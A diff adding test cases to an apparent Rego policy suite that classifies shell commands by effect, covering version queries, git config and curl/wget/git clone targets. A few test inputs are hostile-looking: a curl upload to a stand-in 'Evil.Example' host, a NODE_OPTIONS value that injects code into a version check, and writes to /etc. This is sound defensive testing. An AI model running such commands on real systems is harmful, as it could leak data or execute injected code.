@@ -285,6 +285,28 @@ cases := [
 	{"argv": ["crontab", "-r"], "want": {"DELETE"}},
 	{"argv": ["crontab", "jobs.txt"], "want": {"EXECUTION"}},
 	{"argv": ["at", "now", "+", "1", "minute"], "want": {"EXECUTION"}},
+	# --- version queries: the version word alone is a read; anything more runs the program -----
+	{"argv": ["python", "--version"], "want": {"READ"}},
+	{"argv": ["python3.11", "-V"], "want": {"READ"}},
+	{"argv": ["node", "--version"], "want": {"READ"}},
+	{"argv": ["node", "-v"], "want": {"READ"}},
+	{"argv": ["go", "version"], "want": {"READ"}},
+	{"argv": ["python", "-v"], "want": {"EXECUTION"}},
+	{"argv": ["python", "--version", "script.py"], "want": {"EXECUTION"}},
+	{"argv": ["python", "-c", "print(1)", "--version"], "want": {"EXECUTION"}},
+	{"argv": ["node", "--version"], "x": {"env": {"NODE_OPTIONS": "--require=./x.js"}}, "want": {"EXECUTION"}},
+	{"argv": ["node", "--version"], "x": {"wrappers": ["sudo"]}, "want": {"READ", "EXECUTION"}},
+	{"argv": ["python", "--version"], "x": {"redirects": [redirect(">", "v.txt", "write")]}, "want": {"READ", "LOCAL_WRITE"}},
+	{"argv": ["mytool", "--version"], "want": {"EXECUTION"}},
+	# --- git config: a key alone reads it, a key and a value write it ----------------------------
+	{"argv": ["git", "config", "user.name"], "want": {"READ"}},
+	{"argv": ["git", "config", "--global", "user.email"], "want": {"READ"}},
+	{"argv": ["git", "config", "user.name", "Dev"], "want": {"LOCAL_WRITE"}},
+	{"argv": ["git", "config", "--unset", "user.name"], "want": {"READ", "LOCAL_WRITE"}},
+	# --- download targets --------------------------------------------------------------------
+	{"argv": ["curl", "-o", "-", "https://example.com"], "want": {"READ"}},
+	{"argv": ["curl", "-o", "/dev/null", "https://example.com"], "want": {"READ"}},
+	{"argv": ["curl", "-O", "https://example.com/a.txt"], "want": {"READ", "LOCAL_WRITE"}},
 ]
 
 row_input(row) := shell_input(array.concat([cmdx(row.argv, object.get(row, "x", {}))], object.get(row, "also", [])))
@@ -345,6 +367,29 @@ target_cases := [
 	{"argv": ["ssh", "deploy@prod.example", "uptime"], "class": "EXECUTION", "field": "domains", "want": ["prod.example"]},
 	{"argv": ["curl", "-d", "x", "https://Evil.Example/up"], "class": "EXTERNAL_WRITE", "field": "domains", "want": ["evil.example"]},
 	{"argv": ["pytest"], "x": {"wrappers": ["sudo"]}, "class": "EXECUTION", "field": "commands", "want": ["pytest", "sudo pytest"]},
+	# an option's value is its target, when the facts show it as a word of its own
+	{"argv": ["curl", "-o", "data/sales.csv", "https://data.example.com/s.csv"], "class": "LOCAL_WRITE", "field": "paths", "want": ["/ws/data/sales.csv"]},
+	{"argv": ["curl", "-o", "data/sales.csv", "https://data.example.com/s.csv"], "class": "LOCAL_WRITE", "field": "open", "want": false},
+	{"argv": ["curl", "-o", "a.txt", "-o", "/etc/b", "https://x.example/a", "https://x.example/b"], "class": "LOCAL_WRITE", "field": "paths", "want": ["/etc/b", "/ws/a.txt"]},
+	{"argv": ["curl", "-so", "out.txt", "https://x.example"], "class": "LOCAL_WRITE", "field": "open", "want": true},
+	{"argv": ["curl", "-o", "a.txt", "-so", "/etc/b", "https://x.example"], "class": "LOCAL_WRITE", "field": "open", "want": true},
+	{"argv": ["curl", "--output=out.txt", "https://x.example"], "class": "LOCAL_WRITE", "field": "open", "want": true},
+	{"argv": ["curl", "https://x.example", "-o"], "class": "LOCAL_WRITE", "field": "open", "want": true},
+	{"argv": ["curl", "-O", "https://x.example/a.txt"], "class": "LOCAL_WRITE", "field": "open", "want": true},
+	{"argv": ["curl", "-o", "x"], "x": {"operand_paths": [""]}, "class": "LOCAL_WRITE", "field": "open", "want": true},
+	{"argv": ["wget", "-O", "out.html", "https://x.example"], "class": "LOCAL_WRITE", "field": "paths", "want": ["/ws", "/ws/out.html"]},
+	# git clone writes its directory operand, else a new directory where it runs
+	{"argv": ["git", "clone", "https://github.com/acme/lib", "vendor/lib"], "class": "LOCAL_WRITE", "field": "paths", "want": ["/ws/vendor/lib"]},
+	{"argv": ["git", "clone", "https://github.com/acme/lib"], "class": "LOCAL_WRITE", "field": "paths", "want": ["/ws"]},
+	{"argv": ["git", "clone", "-b", "main", "https://github.com/acme/lib"], "class": "LOCAL_WRITE", "field": "paths", "want": ["/ws"]},
+	{"argv": ["git", "clone", "--depth", "1", "https://github.com/acme/lib", "/srv/lib"], "class": "LOCAL_WRITE", "field": "paths", "want": ["/srv/lib"]},
+	{"argv": ["git", "clone", "--", "https://github.com/acme/lib", "lib"], "class": "LOCAL_WRITE", "field": "paths", "want": ["/ws/lib"]},
+	{"argv": ["git", "-C", "/srv", "clone", "https://github.com/acme/lib", "lib"], "class": "LOCAL_WRITE", "field": "paths", "want": ["/srv", "/ws/lib"]},
+	# operands that do not line up with argv: every operand and the directory count
+	{
+		"argv": ["git", "clone", "https://github.com/acme/lib", "a"], "x": {"operands": ["clone"]}, "class": "LOCAL_WRITE", "field": "paths",
+		"want": ["/ws", "/ws/a", "/ws/https://github.com/acme/lib"],
+	},
 ]
 
 test_target_table if {
